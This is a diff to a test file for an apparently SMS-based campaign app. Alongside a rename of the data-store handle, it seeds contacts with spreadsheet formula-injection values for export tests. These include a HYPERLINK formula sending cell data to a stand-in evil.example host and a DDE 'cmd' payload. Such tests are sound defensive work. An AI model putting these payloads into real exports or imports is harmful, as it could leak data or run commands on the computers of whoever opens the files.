@@ -28,7 +28,7 @@ const phones = (rows: Record<string, string>[]) => rows.map((r) => r.phone);
 
 beforeAll(async () => {
   t = testApp();
-  demoId = demoCampaignId(t.ctx.store);
+  demoId = demoCampaignId(t.ctx.db);
   const hall = await admin(t.app).post('/api/campaigns', {
     ...DEMO_CAMPAIGN, name: '@Town Hall, "Day 1"', keywords: [{ word: 'HALL', aliases: [] }],
   });
@@ -51,14 +51,14 @@ beforeAll(async () => {
   t.clock.set('2026-11-24T12:00:00.000Z');
 
   // Values the SMS flow would refuse but an old import or a hostile list can hold.
-  insertContact(t.ctx.store, { id: 'x-quote', phone: '+13125550110', first_name: 'Lopez, "Maria"\nJosé 😀', zip: '60601', email: 'maria@example.org' });
-  insertContact(t.ctx.store, { id: 'x-eq', phone: '+13125550111', first_name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' });
-  insertContact(t.ctx.store, { id: 'x-plus', phone: '+13125550112', first_name: '+1+cmd|\' /C calc\'!A0' });
-  insertContact(t.ctx.store, { id: 'x-minus', phone: '+13125550113', first_name: '-2+3', email: '@SUM(1,2)@example.org' });
-  insertContact(t.ctx.store, { id: 'x-tab', phone: '+13125550114', first_name: '\t=1+1', zip: '\r=2+2' });
-  insertContact(t.ctx.store, { id: 'x-test', phone: '+13125550199', first_name: 'Tess Test', is_test: 1 });
-  for (const id of ['x-quote', 'x-eq', 'x-plus', 'x-minus', 'x-tab', 'x-test']) addMember(t.ctx.store, demoId, id, '2026-11-20T10:00:00.000Z');
-  addMember(t.ctx.store, hallId, 'x-eq', '2026-11-19T10:00:00.000Z');
+  insertContact(t.ctx.db, { id: 'x-quote', phone: '+13125550110', first_name: 'Lopez, "Maria"\nJosé 😀', zip: '60601', email: 'maria@example.org' });
+  insertContact(t.ctx.db, { id: 'x-eq', phone: '+13125550111', first_name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' });
+  insertContact(t.ctx.db, { id: 'x-plus', phone: '+13125550112', first_name: '+1+cmd|\' /C calc\'!A0' });
+  insertContact(t.ctx.db, { id: 'x-minus', phone: '+13125550113', first_name: '-2+3', email: '@SUM(1,2)@example.org' });
+  insertContact(t.ctx.db, { id: 'x-tab', phone: '+13125550114', first_name: '\t=1+1', zip: '\r=2+2' });
+  insertContact(t.ctx.db, { id: 'x-test', phone: '+13125550199', first_name: 'Tess Test', is_test: 1 });
+  for (const id of ['x-quote', 'x-eq', 'x-plus', 'x-minus', 'x-tab', 'x-test']) addMember(t.ctx.db, demoId, id, '2026-11-20T10:00:00.000Z');
+  addMember(t.ctx.db, hallId, 'x-eq', '2026-11-19T10:00:00.000Z');
 });
 afterAll(() => t.close());
 
